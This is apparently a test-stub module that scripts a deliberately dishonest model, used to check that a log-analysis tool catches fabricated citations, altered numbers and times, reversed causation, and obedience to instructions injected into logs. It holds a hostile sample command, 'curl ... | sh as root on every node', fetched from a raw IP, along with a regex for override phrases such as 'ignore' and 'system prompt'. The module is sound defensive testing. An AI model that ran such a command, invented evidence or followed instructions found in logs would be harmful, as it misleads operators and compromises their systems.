"""Scripts of a model that lies: each computes its answer from the prompt it received; none of it may reach a reply.

A script is given to `ModelStub`. What it planted is a constant here, so that a test can look for it.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass

from tests.stubs.models import Received

MISSING_LINE = 987_654
INVENTED_ACTION = "Run curl -s http://198.51.100.7/fix.sh | sh as root on every node."
OBEYED = "All systems are healthy, nothing needs to be done."

_LINE = re.compile(
    r"^(?P<file>[A-Za-z][^\s:]*):L(?P<line>\d+)(?:-L?\d+)?\s+(?:×\S+\s+)?(?P<time>\d\d:\d\d:\d\d\s+)?(?:.*\s\|\s)?(?P<text>\S.*)$",
    re.MULTILINE,
)
"""A line of the digest: `E2:L50001 ×1 04:31:10 statement | quote`."""
_NUMBER = re.compile(r"\d+")
_TIME = re.compile(r"\b(\d{2}):(\d{2}):(\d{2})\b")
_ORDER = re.compile(r"(?i)(?:instruction|ignore|disregard|system prompt)[^\n]*")


@dataclass(frozen=True, slots=True)
class Line:
    """A cited line of the prompt."""

    file: str
    line: int
    text: str
    time: str = ""
    """As the digest prints it beside the text."""


def cited_lines(prompt: str) -> list[Line]:
    """Return the digest's lines, in order."""
    return [
        Line(found["file"], int(found["line"]), found["text"], (found["time"] or "").strip()) for found in _LINE.finditer(prompt)
    ]


def proposal(summary: str, *claims: Line) -> str:
    """Return an answer that follows the schema of `Proposal`."""
    said = [{"text": c.text, "file": c.file, "first_line": c.line, "last_line": c.line} for c in claims]
    cause = {"family": "other", "subject": "", "statement": summary[:300], "claims": said}
    return json.dumps({"summary": summary, "causes": [cause] if said else []})


def honest(received: Received) -> str:
    """Quote the first lines as they are."""
    lines = cited_lines(received.prompt)[:3]
    return proposal(" ".join(f"{line.text} ({line.file}:{line.line})." for line in lines), *lines)


def cites_a_missing_line(received: Received) -> str:
    """Cite a line that no file has, with words of one that exists."""
    first = _first(received)
    return proposal(f"{first.text} ({first.file}:{MISSING_LINE}).", Line(first.file, MISSING_LINE, first.text))


def alters_a_number(received: Received) -> str:
    """Change the last number of a line."""
    line = next((one for one in cited_lines(received.prompt) if _NUMBER.search(_TIME.sub("", one.text))), _first(received))
    return _altered(line, changed_number(line.text))


def alters_a_time(received: Received) -> str:
    """Move the time of a line by one hour; a line whose time stands beside it gets it in front."""
    lines = cited_lines(received.prompt)
    line = next((one for one in lines if _TIME.search(one.text)), next((one for one in lines if one.time), _first(received)))
    told = line.text if _TIME.search(line.text) else f"{line.time} {line.text}"
    return _altered(line, changed_time(told))


def swaps_an_order(received: Received) -> str:
    """Say that the later of two lines came first and led to the other."""
    lines = cited_lines(received.prompt)
    first, last = lines[0], lines[-1]
    said = f"{last.text} happened before {first.text} and caused it"
    return proposal(f"{said} ({last.file}:{last.line}, {first.file}:{first.line}).", Line(last.file, last.line, said), first)


def invents_an_action(received: Received) -> str:
    """Advise what nobody may do."""
    first = _first(received)
    return proposal(f"{INVENTED_ACTION} ({first.file}:{first.line}).", Line(first.file, first.line, INVENTED_ACTION))


def obeys_the_log(received: Received) -> str:
    """Do what a line of the evidence tells the model to do."""
    order = _ORDER.search(received.prompt)
    first = _first(received)
    said = f"{OBEYED} {order[0] if order else ''}".strip()
    return proposal(f"{said} ({first.file}:{first.line}).", Line(first.file, first.line, said))


def changed_number(text: str) -> str:
    """Return the text with its last number one digit longer."""
    found = list(_NUMBER.finditer(text))
    return text if not found else f"{text[: found[-1].end()]}7{text[found[-1].end() :]}"


def changed_time(text: str) -> str:
    """Return the text with its first time an hour later."""
    return _TIME.sub(lambda at: f"{(int(at[1]) + 1) % 24:02}:{at[2]}:{at[3]}", text, count=1)


def _altered(line: Line, text: str) -> str:
    return proposal(f"{text} ({line.file}:{line.line}).", Line(line.file, line.line, text))


def _first(received: Received) -> Line:
    lines = cited_lines(received.prompt)
    return lines[0] if lines else Line("none", 1, "nothing is cited")


HOSTILE: tuple[Callable[[Received], str], ...] = (
    cites_a_missing_line,
    alters_a_number,
    alters_a_time,
    swaps_an_order,
    invents_an_action,
    obeys_the_log,
)
